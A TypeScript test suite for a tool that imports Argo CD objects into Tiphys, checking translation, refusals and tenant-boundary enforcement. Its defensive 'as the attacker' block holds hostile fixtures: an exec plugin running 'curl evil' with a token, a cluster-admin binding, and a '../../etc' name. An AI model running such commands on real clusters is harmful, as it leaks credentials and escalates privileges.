import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { describePlan, planImport } from './plan.ts';
import type { ArgoObject, ImportPlan, ImportTarget } from './plan-types.ts';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const TOKEN = 'eyJhbGciOi-very-secret-token';
const PASSWORD = 's3cr3t-git-password';
const CA = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n';

const target: ImportTarget = {
  namespace: 'tiphys',
  argoNamespace: 'argocd',
  clusters: [{ name: 'old-east', server: 'https://east.example:6443' }],
  projects: [
    { name: 'default', spec: { sourceRepos: ['*'], destinations: [{ cluster: '*', namespace: '*' }] } },
  ],
};

function clusterSecret(
  name: string,
  server: string,
  config: Record<string, unknown>,
  labels: Record<string, string> = {},
): ArgoObject {
  return {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: {
      name: `cluster-${name}`,
      namespace: 'argocd',
      labels: { 'argocd.argoproj.io/secret-type': 'cluster', ...labels },
    },
    data: { name: b64(name), server: b64(server), config: b64(JSON.stringify(config)) },
  };
}

function app(name: string, spec: Record<string, unknown>, namespace = 'argocd'): ArgoObject {
  return {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Application',
    metadata: {
      name,
      namespace,
      finalizers: ['resources-finalizer.argocd.argoproj.io'],
      annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{"kind":"Application"}' },
    },
    spec,
    status: { sync: { status: 'Synced' } },
  };
}

const source = { repoURL: 'https://git.example/platform.git', targetRevision: 'main', path: 'guestbook' };

function project(name: string, spec: Record<string, unknown>): ArgoObject {
  return {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'AppProject',
    metadata: { name, namespace: 'argocd' },
    spec,
  };
}

const refusedOf = (plan: ImportPlan, from: string) =>
  plan.refused.find((r) => r.from === from)?.reasons.join('; ');
// biome-ignore lint/suspicious/noExplicitAny: assertions walk the planned objects freely
type Loose = Record<string, any>;
const planned = (plan: ImportPlan, kind: string, name: string) =>
  plan.objects.find((o) => o.kind === kind && o.name === name)?.object as unknown as Loose | undefined;

describe('import argocd: translation', () => {
  const fleet: ArgoObject[] = [
    clusterSecret(
      'eu-1',
      'https://eu-1.example:6443/',
      { bearerToken: TOKEN, tlsClientConfig: { caData: b64(CA) } },
      { region: 'eu' },
    ),
    clusterSecret('in', 'https://kubernetes.default.svc', {}),
    clusterSecret('east', 'https://east.example:6443', { bearerToken: TOKEN }),
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: {
        name: 'repo-platform',
        namespace: 'argocd',
        labels: { 'argocd.argoproj.io/secret-type': 'repository' },
      },
      stringData: {
        url: 'https://git.example/platform.git',
        username: 'ci',
        password: PASSWORD,
        enableLfs: 'true',
      },
    },
    project('platform', {
      sourceRepos: ['https://git.example/*'],
      destinations: [
        { server: 'https://eu-1.example:6443', namespace: 'web-*' },
        { name: 'east', namespace: '*' },
      ],
      roles: [
        {
          name: 'deployer',
          policies: [
            'p, proj:platform:deployer, applications, sync, platform/*, allow',
            'p, proj:platform:deployer, applications, *, other/*, allow',
          ],
          jwtTokens: [{ iat: 1 }],
        },
      ],
    }),
    app('web', {
      project: 'platform',
      source,
      destination: { server: 'https://eu-1.example:6443', namespace: 'web-eu' },
      info: [{ name: 'a', value: 'b' }],
    }),
    app('web-east', { project: 'platform', source, destination: { name: 'east', namespace: 'web' } }),
    {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'ApplicationSet',
      metadata: { name: 'everywhere', namespace: 'argocd' },
      spec: {
        generators: [{ clusters: { selector: { matchLabels: { region: 'eu' } } } }],
        template: {
          metadata: { name: '{{name}}-web' },
          spec: { project: 'platform', source, destination: { server: '{{server}}', namespace: 'web' } },
        },
      },
    },
    {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'argocd-rbac-cm', namespace: 'argocd' },
      data: { 'policy.csv': 'g, ops, role:admin\n', 'policy.default': 'role:readonly', 'oidc.extra': 'x' },
    },
  ];
  const plan = planImport(fleet, target);

  test('clusters, credentials, projects, apps, sets and RBAC become Tiphys objects', () => {
    assert.deepEqual(plan.refused, []);
    const cluster = planned(plan, 'Cluster', 'eu-1');
    assert.equal(cluster?.spec.server, 'https://eu-1.example:6443');
    assert.deepEqual(cluster?.metadata.labels, { region: 'eu' });
    const clusterSecretPlan = plan.secrets.find((s) => s.purpose === 'cluster');
    assert.deepEqual(clusterSecretPlan?.data, { bearerToken: TOKEN, caData: CA });
    const repo = plan.secrets.find((s) => s.purpose === 'repository');
    assert.equal(repo?.data.password, PASSWORD);
    assert.match(repo?.notes.join(' ') ?? '', /enableLfs dropped/);
    const web = planned(plan, 'Application', 'web');
    assert.equal(web?.apiVersion, 'tiphys.dev/v1alpha1');
    assert.deepEqual(web?.spec.destination, { namespace: 'web-eu', cluster: 'eu-1' });
    assert.deepEqual(web?.metadata, {
      name: 'web',
      namespace: 'tiphys',
      finalizers: ['resources-finalizer.tiphys.dev'],
    });
    assert.equal(web?.status, undefined);
    assert.deepEqual(planned(plan, 'Application', 'web-east')?.spec.destination, {
      namespace: 'web',
      cluster: 'old-east',
    });
    assert.equal(planned(plan, 'ApplicationSet', 'everywhere')?.apiVersion, 'tiphys.dev/v1alpha1');
    assert.deepEqual(planned(plan, 'ConfigMap', 'tiphys-rbac')?.data, {
      'policy.csv': 'g, ops, role:admin\n',
      'policy.default': 'role:readonly',
    });
  });

  test('a project keeps its own role policies, drops foreign ones and tokens, with notes', () => {
    const platform = plan.objects.find((o) => o.name === 'platform');
    const spec = planned(plan, 'AppProject', 'platform')?.spec;
    assert.deepEqual(spec.destinations, [
      { cluster: 'eu-1', namespace: 'web-*' },
      { cluster: 'old-east', namespace: '*' },
    ]);
    assert.deepEqual(spec.roles[0].policies, [
      'p, proj:platform:deployer, applications, sync, platform/*, allow',
    ]);
    assert.match(platform?.notes.join(' ') ?? '', /1 policy line\(s\) dropped.*JWT tokens are not imported/);
  });

  test('nothing read is left out of the report: in-cluster and a registered server are ignored with a reason', () => {
    assert.match(
      plan.ignored.map((i) => `${i.from}: ${i.reasons}`).join('\n'),
      /cluster-in: Argo CD's own cluster[\s\S]*cluster-east: its server is already registered as Cluster old-east/,
    );
    const read = fleet.length;
    const accounted =
      plan.objects.length +
      plan.secrets.filter((s) => s.purpose === 'repository').length +
      plan.refused.length +
      plan.ignored.length;
    assert.equal(accounted, read);
    const report = describePlan(plan, 'would write').join('\n');
    assert.match(report, /spec\.info dropped/);
    assert.match(report, /annotation kubectl\.kubernetes\.io\/last-applied-configuration dropped/);
    assert.match(report, /data\.oidc\.extra dropped/);
  });

  test('the report names Secret keys, never their values', () => {
    const report = describePlan(plan, 'would write').join('\n');
    assert.match(report, /Secret cluster-eu-1 \(cluster credentials; keys bearerToken, caData\)/);
    assert.match(report, /keys password, url, username/);
    for (const secret of [TOKEN, PASSWORD, 'MIIB'])
      assert.ok(!report.includes(secret), `report shows ${secret}`);
  });
});

describe('import argocd: what is refused', () => {
  test('unsupported fields refuse the object with a reason naming them', () => {
    const plan = planImport(
      [
        app('plugin', {
          source: { ...source, plugin: { name: 'cmp' } },
          destination: { server: 'https://kubernetes.default.svc' },
        }),
        {
          apiVersion: 'argoproj.io/v1alpha1',
          kind: 'ApplicationSet',
          metadata: { name: 'go' },
          spec: {
            goTemplate: true,
            generators: [{ list: { elements: [] } }],
            template: { metadata: {}, spec: {} },
          },
        },
        {
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'creds', labels: { 'argocd.argoproj.io/secret-type': 'repo-creds' } },
          data: {},
        },
        project('signed', { sourceRepos: ['*'], signatureKeys: [{ keyID: 'ABC' }] }),
        app('unknown-server', { source, destination: { server: 'https://nowhere.example' } }),
      ],
      target,
    );
    assert.equal(plan.objects.length, 0);
    assert.match(refusedOf(plan, 'Application argocd/plugin') ?? '', /plugin/);
    assert.match(refusedOf(plan, 'ApplicationSet argocd/go') ?? '', /goTemplate/);
    assert.match(refusedOf(plan, 'Secret argocd/creds') ?? '', /repo-creds is not supported/);
    assert.match(refusedOf(plan, 'AppProject argocd/signed') ?? '', /signatureKeys: Tiphys does not verify/);
    assert.match(
      refusedOf(plan, 'Application argocd/unknown-server') ?? '',
      /nowhere\.example is not the server of any registered Cluster/,
    );
  });
});

describe('import argocd: as the attacker', () => {
  const platform = project('platform', {
    sourceRepos: ['https://git.example/*'],
    destinations: [{ server: '*', namespace: '*' }],
    clusterResourceWhitelist: [{ group: '*', kind: '*' }],
    sourceNamespaces: ['team-b'],
  });
  const tenant = project('tenant', {
    sourceRepos: ['https://git.example/tenant.git'],
    destinations: [{ server: '*', namespace: 'tenant' }],
  });
  const dest = { server: 'https://kubernetes.default.svc', namespace: 'kube-system' };

  test("an Application from a team's namespace cannot claim a project that does not admit that namespace", () => {
    const plan = planImport(
      [platform, app('escalate', { project: 'platform', source, destination: dest }, 'team-a')],
      target,
    );
    assert.equal(planned(plan, 'Application', 'escalate'), undefined);
    assert.match(
      refusedOf(plan, 'Application team-a/escalate') ?? '',
      /namespace team-a, and project platform does not admit/,
    );
    const admitted = planImport(
      [platform, app('ok', { project: 'platform', source, destination: dest }, 'team-b')],
      target,
    );
    assert.ok(planned(admitted, 'Application', 'ok'));
  });

  test("an Application outside its project's repositories or destinations, or naming a project that exists nowhere, is refused", () => {
    const plan = planImport(
      [
        tenant,
        app('breakout', {
          project: 'tenant',
          source: { ...source, repoURL: 'https://git.example/tenant.git' },
          destination: dest,
        }),
        app('other-repo', { project: 'tenant', source, destination: { ...dest, namespace: 'tenant' } }),
        app('ghost', { project: 'nowhere', source, destination: dest }),
        app('team-default', { source, destination: dest }, 'team-a'),
      ],
      target,
    );
    assert.deepEqual(
      plan.objects.map((o) => o.name),
      ['tenant'],
    );
    assert.match(
      refusedOf(plan, 'Application argocd/breakout') ?? '',
      /namespace kube-system is not permitted in project tenant/,
    );
    assert.match(
      refusedOf(plan, 'Application argocd/other-repo') ?? '',
      /repository .* is not permitted in project tenant/,
    );
    assert.match(
      refusedOf(plan, 'Application argocd/ghost') ?? '',
      /project nowhere is not in Tiphys and not imported/,
    );
    // Tiphys's own default project admits only the control namespace's Applications.
    assert.match(refusedOf(plan, 'Application team-a/team-default') ?? '', /does not admit/);
  });

  test('every source of a multi-source Application must be permitted by its project', () => {
    const tenantSource = { ...source, repoURL: 'https://git.example/tenant.git' };
    const dest2 = { server: 'https://kubernetes.default.svc', namespace: 'tenant' };
    const plan = planImport(
      [
        tenant,
        app('two-ok', {
          project: 'tenant',
          sources: [tenantSource, { ...tenantSource, path: 'b' }],
          destination: dest2,
        }),
        app('smuggled', { project: 'tenant', sources: [tenantSource, source], destination: dest2 }),
      ],
      target,
    );
    assert.equal(planned(plan, 'Application', 'two-ok')?.spec.sources.length, 2);
    assert.match(
      refusedOf(plan, 'Application argocd/smuggled') ?? '',
      /platform\.git is not permitted in project tenant/,
    );
  });

  test('a refused project does not let its Applications fall back on a Tiphys project of that name', () => {
    const plan = planImport(
      [
        project('default', {
          sourceRepos: ['*'],
          destinationServiceAccounts: [{ server: '*', namespace: '*', defaultServiceAccount: 'x' }],
        }),
        app('a', { source, destination: dest }),
      ],
      target,
    );
    assert.match(refusedOf(plan, 'AppProject argocd/default') ?? '', /destinationServiceAccounts/);
    assert.match(refusedOf(plan, 'Application argocd/a') ?? '', /project default is not in Tiphys/);
  });

  test('two Applications of different namespaces that would become one are both refused', () => {
    const plan = planImport(
      [
        platform,
        app('db', { project: 'platform', source, destination: dest }, 'team-b'),
        app('db', { project: 'platform', source, destination: dest }),
      ],
      target,
    );
    assert.equal(planned(plan, 'Application', 'db'), undefined);
    assert.equal(plan.refused.filter((r) => /also becomes Application db/.test(r.reasons.join())).length, 2);
  });

  test('a hostile file: exec plugins, foreign objects, bad names and credentials in URLs write nothing and echo no secret', () => {
    const hostile: ArgoObject[] = [
      clusterSecret('pwn', 'https://pwn.example', {
        execProviderConfig: { command: '/bin/sh', args: ['-c', `curl evil ${TOKEN}`] },
      }),
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRoleBinding',
        metadata: { name: 'everyone-admin' },
        roleRef: { name: 'cluster-admin' },
      },
      { apiVersion: 'tiphys.dev/v1alpha1', kind: 'Application', metadata: { name: 'direct' }, spec: {} },
      {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'argocd-secret' },
        data: { 'admin.password': b64(PASSWORD) },
      },
      app('../../etc', { source, destination: dest }),
      {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'repo-leaky', labels: { 'argocd.argoproj.io/secret-type': 'repository' } },
        stringData: { url: `https://ci:${PASSWORD}@git.example/x.git` },
      },
      {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'bad', labels: { 'argocd.argoproj.io/secret-type': 'cluster' } },
        data: { server: `not base64 ${TOKEN}` },
      },
    ];
    const plan = planImport(hostile, target);
    assert.deepEqual(plan.objects, []);
    assert.deepEqual(plan.secrets, []);
    assert.match(refusedOf(plan, 'Secret argocd/cluster-pwn') ?? '', /exec plugins are not imported/);
    assert.match(refusedOf(plan, 'Application argocd/../../etc') ?? '', /not a Kubernetes name/);
    assert.match(refusedOf(plan, 'Secret argocd/repo-leaky') ?? '', /not in the URL/);
    assert.match(refusedOf(plan, 'Secret argocd/bad') ?? '', /data\.server is not base64/);
    assert.equal(plan.ignored.length, 3);
    const report = describePlan(plan, 'would write').join('\n');
    for (const secret of [TOKEN, PASSWORD, '/bin/sh'])
      assert.ok(!report.includes(secret), `report shows ${secret}`);
  });
});
